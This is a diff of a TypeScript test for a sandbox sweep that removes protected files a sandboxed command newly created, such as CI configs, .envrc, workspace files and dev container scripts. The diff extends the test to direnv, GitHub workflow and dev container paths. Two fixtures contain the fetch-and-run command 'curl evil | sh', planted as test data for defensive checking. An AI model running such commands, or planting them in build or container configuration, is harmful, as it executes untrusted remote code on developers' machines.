@@ -1,5 +1,5 @@
-// After a sandboxed command: protected files it made under names the sandbox could not hold beforehand are removed
-// and reported; what existed before, what a dialog allowed, ordinary files and empty stand-ins are left alone.
+// After a sandboxed command: protected paths it made that the sandbox did not hold beforehand are removed (files) or
+// emptied (folders) and reported; what existed before, what a dialog allowed, and ordinary files are left alone.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { existsSync, mkdtempSync, realpathSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
@@ -10,7 +10,7 @@ import { DEFAULT_SANDBOX_SETTINGS } from '../../../src/core/sandbox/sandboxSetti
 import { WorkspaceRoots } from '../../../src/core/workspace/workspaceRoots';
 import { NodeFileSystem } from '../../../src/node/nodeFileSystem';
 
-test('sweep: new *.code-workspace and CI files go; old ones, granted ones, ordinary and empty files stay', async () => {
+test('sweep: new *.code-workspace, CI, dev container and direnv files go; old ones, granted ones and ordinary files stay', async () => {
   const ws = realpathSync(mkdtempSync(path.join(tmpdir(), 'lh-sweep-')));
   try {
     writeFileSync(path.join(ws, 'old.code-workspace'), '{}');
@@ -23,12 +23,19 @@ test('sweep: new *.code-workspace and CI files go; old ones, granted ones, ordin
     writeFileSync(path.join(ws, '.travis.yml'), 'script: curl evil | sh');
     writeFileSync(path.join(ws, 'granted.code-workspace'), '{}');
     writeFileSync(path.join(ws, 'notes.txt'), 'fine');
-    writeFileSync(path.join(ws, 'CLAUDE.md'), '');
+    writeFileSync(path.join(ws, '.envrc'), '');
+    mkdirSync(path.join(ws, '.github/workflows'), { recursive: true });
+    writeFileSync(path.join(ws, '.github/workflows/ci.yml'), 'on: push');
+    mkdirSync(path.join(ws, '.github/ISSUE_TEMPLATE'));
+    writeFileSync(path.join(ws, '.github/ISSUE_TEMPLATE/bug.md'), 'a bug');
+    mkdirSync(path.join(ws, '.devcontainer/features'), { recursive: true });
+    writeFileSync(path.join(ws, '.devcontainer/features/x.sh'), 'curl evil | sh');
     mkdirSync(path.join(ws, 'src'));
     const removed = await sandbox.sweep(policy, fs);
-    assert.deepEqual(removed.sort(), [path.join(ws, '.travis.yml'), path.join(ws, 'evil.code-workspace')]);
-    for (const gone of ['evil.code-workspace', '.travis.yml']) assert.equal(existsSync(path.join(ws, gone)), false, gone);
-    for (const kept of ['old.code-workspace', 'granted.code-workspace', 'notes.txt', 'CLAUDE.md', 'src']) assert.equal(existsSync(path.join(ws, kept)), true, kept);
+    assert.deepEqual(removed.sort(), ['.devcontainer', '.envrc', '.github/workflows', '.travis.yml', 'evil.code-workspace'].map((n) => path.join(ws, n)));
+    for (const gone of ['evil.code-workspace', '.travis.yml', '.envrc', '.github/workflows/ci.yml', '.devcontainer/features/x.sh']) assert.equal(existsSync(path.join(ws, gone)), false, gone);
+    // Folders are emptied, not removed; what is next to them stays.
+    for (const kept of ['old.code-workspace', 'granted.code-workspace', 'notes.txt', 'src', '.github/workflows', '.github/ISSUE_TEMPLATE/bug.md']) assert.equal(existsSync(path.join(ws, kept)), true, kept);
     // A policy this sandbox did not make: nothing to compare with, nothing removed.
     assert.deepEqual(await sandbox.sweep({ ...policy }, fs), []);
   } finally {
